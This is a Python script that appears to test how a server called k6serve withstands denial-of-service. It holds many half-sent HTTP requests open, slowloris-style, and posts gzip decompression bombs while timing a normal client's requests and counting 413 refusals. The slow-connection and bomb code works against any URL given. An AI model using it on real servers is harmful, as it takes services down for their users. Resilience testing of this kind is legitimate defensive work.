#!/usr/bin/env python3
"""attack.py URL SECONDS HEADS BODIES BOMBS: hold that many connections to a
k6serve, half of a head or of a body out and a byte more twice a second, opened
anew when they are cut off; send that many gzip bombs; meanwhile be a good
client that asks and delivers ten times a second, each time on a connection of
its own, and twenty times at least, however long that takes. Prints good requests, those answered 2xx, p99 in ms, and how many bombs
were answered 413."""
import gzip, json, http.client, random, selectors, socket, sys, threading, time
from urllib.parse import urlsplit

url, seconds, heads, bodies, bombs = sys.argv[1], *map(int, sys.argv[2:6])
at = urlsplit(url)
address = (at.hostname, at.port)
over = threading.Event()
HEAD = b"GET /health HTTP/1.1\r\nHost: "
BODY = (b"POST /v1/metrics/1 HTTP/1.1\r\nHost: %s\r\n"
        b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n["
        % at.netloc.encode())


def begin(start):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(address)
    return [s, start]


def hold():
    kinds = [HEAD] * heads + [BODY] * bodies
    random.shuffle(kinds)
    held = [begin(k) for k in kinds]
    while not over.is_set():
        for h in held:
            try:
                if h[1]:
                    h[0].send(h[1])
                    rest = h[1]
                    h[1] = b""
                    continue
                h[0].send(b" ")
                if h[0].recv(100) == b"":
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                h[0].close()
                h[:] = begin(random.choice(kinds))
        time.sleep(0.5)


refused = 0


def bomb():
    global refused
    body = gzip.compress(b" " * (1 << 28), 9)
    for _ in range(bombs):
        try:
            c = http.client.HTTPConnection(*address, timeout=300)
            c.request("POST", "/v1/metrics/1", body, {
                "Content-Type": "application/json",
                "Content-Encoding": "gzip"})
            refused += c.getresponse().status == 413
            c.close()
        except OSError:
            pass


threads = [threading.Thread(target=f, daemon=True) for f in (hold, bomb)]
for t in threads:
    t.start()
took, good, n = [], 0, 0
POINT = json.dumps([{"type": "Point", "metric": "m", "data": {
    "time": "1700000000000000", "type": "counter", "tags": {}, "value": 1}}])
end = time.monotonic() + seconds
while time.monotonic() < end or n < 20:
    start = time.monotonic()
    n += 1
    try:
        c = http.client.HTTPConnection(*address, timeout=600)
        if n % 2:
            c.request("GET", "/api/v1/runs/1")
        else:
            c.request("POST", "/v1/metrics/1", POINT, {
                "Content-Type": "application/json"})
        good += c.getresponse().status // 100 == 2
        c.close()
    except OSError:
        pass
    took.append((time.monotonic() - start) * 1000)
    time.sleep(max(0, start + 0.1 - time.monotonic()))
over.set()
if bombs:
    threads[1].join(1200)
took.sort()
print(n, good, round(took[int(len(took) * 0.99) - 1]), refused)
